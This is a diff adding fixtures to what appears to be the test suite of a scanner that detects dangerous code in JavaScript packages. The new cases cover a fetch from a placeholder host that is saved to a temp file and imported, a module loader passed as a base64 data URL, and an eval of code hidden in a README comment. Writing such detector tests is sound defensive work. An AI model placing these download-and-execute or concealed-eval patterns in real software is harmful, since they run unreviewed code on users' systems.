@@ -201,6 +201,23 @@ export default defineCases({
         'lib/run.js': "exports.run = (text) => new Function('require', text)(require)",
       },
     },
+    {
+      name: 'a download that is saved and loaded as a module',
+      code: "import { writeFile } from 'node:fs/promises';\nimport { pathToFileURL } from 'node:url';\nimport os from 'node:os';\nconst f = os.tmpdir() + '/n.mjs';\nawait writeFile(f, await (await fetch('https://a.example/x')).text());\nawait import(pathToFileURL(f).href);",
+      manifest: { type: 'module' },
+    },
+    {
+      name: 'a loader inside a URL',
+      code: "require('module').register('data:text/javascript;base64,ZXhwb3J0IGNvbnN0IGE9MQ==')",
+    },
+    {
+      name: 'code in a comment of the readme',
+      files: {
+        'index.js':
+          "const fs = require('fs');\neval(fs.readFileSync(__dirname + '/README.md', 'utf8').split('<!--')[1].split('-->')[0])",
+        'README.md': '# a\n<!--console.log(1)-->',
+      },
+    },
   ],
   ok: [
     {
